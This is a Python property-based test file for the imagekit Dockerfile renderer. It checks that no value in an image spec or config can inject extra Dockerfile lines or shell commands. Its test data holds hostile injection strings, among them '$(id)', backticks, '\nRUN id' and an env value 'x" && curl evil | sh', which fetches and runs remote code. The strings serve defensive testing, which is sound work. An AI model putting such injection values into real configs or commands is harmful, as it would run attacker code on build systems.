"""No value in a spec or imagekit.toml can add a Dockerfile line or a shell
command: a property test over the spec and config models. Documents are drawn
from the fields' types with hostile text mixed in (line breaks of every kind,
quotes, `$()`, backticks, backslashes); whenever both models accept one, its
Dockerfile must have exactly the lines of the same document with plain
values, and no line break but "\\n"."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from imagekit.config import ConfigModel, Project
from imagekit.reference import BREAKING
from imagekit.render import render
from imagekit.spec import ImageSpec, Spec, resolve

NASTY = ["\n", "\r", "\r\n", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\x00",
         "\t", "\x1b", '"', "'", "\\", "\\\n", " \\", "$(id)", "`id`", "${HOME}", "$X", "&&", "||", ";",
         "|", "#", " ", "\nRUN id", "\u2028RUN id", "\\u2028", "{steps}", "{", "}", "%s", "\ufeff",
         "\u202e", "é", "</script>", "--", "-", "=", ",", "*", "?", "[x]", "@"]

nasty = st.lists(st.one_of(st.sampled_from(NASTY), st.text(max_size=6)), max_size=5).map("".join)


def spiked(valid: list[str]) -> st.SearchStrategy[str]:
    """A valid value, a hostile text, or a valid value with hostile text spliced in."""
    good = st.sampled_from(valid)
    spliced = st.tuples(good, nasty, st.integers(0, 40)).map(
        lambda t: t[0][:t[2]] + t[1] + t[0][t[2]:])
    # mostly valid, so that many whole documents are accepted and rendered
    return st.integers(0, 9).flatmap(lambda i: good if i < 8 else spliced if i < 9 else nasty)


FRAMEWORKS = [("pytorch", "2.13.0", "cpu"), ("pytorch", "2.13.0", "gpu"), ("tensorflow", "2.21.0", "cpu"),
              ("tensorflow", "2.21.0", "gpu"), ("mxnet", "1.9.1", "cpu")]
REFS = ["python:3.11-slim-bookworm", "imagekit/base:bookworm", "localhost:5000/team/img:v1",
        "registry.example.com/a__b/c--d:T_1", "img@sha256:" + "a" * 64]
PATHS = ["/opt/app", "/workspace", "/w/x-y_z.1"]
ENV_NAMES = ["A", "PATH_EXTRA", "_x1"]


@st.composite
def spec_docs(draw) -> dict:
    fw, version, device = draw(st.sampled_from(FRAMEWORKS))
    doc: dict = {"name": "x", "framework": {"name": fw, "version": version}, "device": device,
                 "description": draw(st.one_of(st.just(""), nasty, nasty.filter(
                     lambda v: not BREAKING.search(v)))),
                 "tags": draw(st.lists(spiked(["v1", "latest", "1.0_rc-2"]), min_size=1, max_size=2))}
    if draw(st.booleans()):
        doc["apt"] = draw(st.lists(spiked(["curl", "libgomp1", "git=1:2.39.2-1"]), min_size=1,
                                   max_size=3))
    if draw(st.booleans()):
        doc["pip"] = draw(st.lists(spiked(["numpy==2.4.6", "pkg[extra]>=1; python_version >= '3.8'",
                                           "pkg @ https://example.com/p-1.0-py3-none-any.whl"]),
                                   min_size=1, max_size=3))
    if draw(st.booleans()):
        doc["env"] = draw(st.dictionaries(spiked(ENV_NAMES), st.one_of(
            nasty, nasty.filter(lambda v: not BREAKING.search(v)), st.integers(),
            st.floats(allow_nan=False), st.booleans()), min_size=1, max_size=3))
    if draw(st.booleans()):
        doc["workdir"] = draw(spiked(PATHS))
    if draw(st.booleans()):
        doc["base"] = draw(spiked(REFS))
    if draw(st.booleans()):
        doc["code"] = {"src": "code", "dest": draw(spiked(PATHS))}
    if draw(st.booleans()):
        doc["jupyter"] = {"enabled": True, "port": draw(st.integers(1000, 70000)),
                          "base_url_env": draw(spiked(ENV_NAMES)),
                          "notebook_dir": draw(spiked(PATHS))}
    if draw(st.booleans()):
        doc["train"] = {"command": draw(spiked(["python train.py --x 1"]))}
        doc["smoke"] = {"steps_args": draw(spiked(["--steps {steps}"])),
                        "resume_log": draw(spiked(["resumed from step {steps}"])),
                        "expect": draw(st.lists(spiked(["ckpt-*.index", "model.pt"]), max_size=2))}
    return doc


@st.composite
def config_docs(draw) -> dict:
    doc: dict = {}
    if draw(st.booleans()):
        doc["bases"] = draw(st.dictionaries(spiked(REFS), spiked(REFS), max_size=2))
    if draw(st.booleans()):
        doc["apt"] = {"mirror": draw(spiked(["http://deb.debian.org/debian",
                                             "https://user:pw@mirror.example:8443/debian?x=1"]))}
    pip: dict = {}
    if draw(st.booleans()):
        pip["wheelhouse"] = ".imagekit/wheelhouse"
    if draw(st.booleans()):
        pip["index_url"] = draw(spiked(["https://pypi.example/simple", "http://[::1]:8080/simple/"]))
    if draw(st.booleans()):
        pip["trusted_host"] = draw(spiked(["pypi.example", "pypi.example:8080"]))
    if pip:
        doc["pip"] = pip
    return doc


def strings(obj) -> list[str]:
    if isinstance(obj, str):
        return [obj]
    if isinstance(obj, dict):
        return [s for k, v in obj.items() for s in strings(k) + strings(v)]
    if isinstance(obj, list):
        return [s for v in obj for s in strings(v)]
    return []


def plain_twin(spec: dict, config: dict) -> tuple[dict, dict]:
    """The same documents with every free value made plain (same fields, same
    number of entries), so the template makes the same lines for both."""
    s = dict(spec)
    if s.get("description"):
        s["description"] = "d"
    if "pip" in s:
        s["pip"] = ["numpy"] * len(s["pip"])
    if "env" in s:
        s["env"] = {k: "v" for k in s["env"]}
    if "base" in s:
        s["base"] = "example.com/base:1"
    c = {k: v for k, v in config.items() if k != "bases"}
    if "apt" in c:
        c["apt"] = {"mirror": "http://mirror.example/debian"}
    if "pip" in c:
        c["pip"] = {k: {"index_url": "https://pypi.example/simple",
                        "trusted_host": "pypi.example"}.get(k, v) for k, v in c["pip"].items()}
    return s, c


def instruction_lines(text: str) -> list[str]:
    """The first word of every logical line ('#' for a comment), after joining
    backslash continuations the way the Dockerfile parser does."""
    out, cur = [], None
    for line in text.split("\n"):
        if cur is None:
            stripped = line.strip()
            if not stripped:
                continue
            if stripped.startswith("#"):
                out.append("#")
                continue
            cur = stripped
        else:
            cur += " " + line
        if cur.endswith("\\"):
            cur = cur[:-1]
            continue
        out.append(cur.split()[0].upper())
        cur = None
    assert cur is None, "the Dockerfile ends inside a continued line"
    return out


def _render(spec_doc: dict, config_doc: dict, root: Path) -> str | None:
    try:
        model = ImageSpec.model_validate(spec_doc)
        config = ConfigModel.model_validate(config_doc)
    except ValidationError:
        return None
    plan = resolve(Spec(model, root / "images" / "x" / "image.yaml"))
    return render(plan, Project(root, config, None))


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(spec_docs(), config_docs())
def test_no_value_adds_a_line(tmp_path_factory, spec_doc, config_doc):
    root = tmp_path_factory.getbasetemp() / "render-prop"
    text = _render(spec_doc, config_doc, root)
    breaks = [s for s in strings(spec_doc) + strings(config_doc) if BREAKING.search(s)]
    if breaks:
        assert text is None, f"accepted a value with a line break or control character: {breaks[0]!r}"
    event("accepted" if text is not None else "refused")
    if text is None:
        return
    assert text.splitlines() == text.split("\n")[:-1], "a line break other than \\n in the Dockerfile"
    plain = _render(*plain_twin(spec_doc, config_doc), root)
    assert plain is not None, "the plain twin of an accepted document was refused"
    assert instruction_lines(text) == instruction_lines(plain)
    assert len(text.split("\n")) == len(plain.split("\n"))


# Hostile but harmless values are accepted and rendered inert (the property
# above only means something when such documents get through).
ACCEPTED = [
    {"description": 'say "hi" $(id) `id` ${HOME} \\ \' # end\\'},
    {"env": {"A": 'x" && curl evil | sh; echo "', "B": "\\", "C": "$(id)"}},
    {"pip": ["pkg[extra]>=1; python_version >= '3.8'"]},
    {"tags": ["v1", "1.0_rc-2"], "base": "registry.example.com/a__b/c--d:T_1"},
]


@pytest.mark.parametrize("extra", ACCEPTED)
def test_hostile_but_harmless_values_render_inert(tmp_path, extra):
    doc = {"name": "x", "framework": {"name": "pytorch", "version": "2.13.0"}, **extra}
    text = _render(doc, {}, tmp_path)
    assert text is not None
    plain = _render(*plain_twin(doc, {}), tmp_path)
    assert instruction_lines(text) == instruction_lines(plain)
    for v in extra.get("env", {}).values():
        assert re.search(r"\$\(id\)", text) or "$" not in v


def test_instruction_lines_sees_an_injected_line():
    assert instruction_lines('LABEL a="x" \\\n    b="y"\nRUN id\n') == ["LABEL", "RUN"]
    assert instruction_lines("# c\nFROM x\n") == ["#", "FROM"]
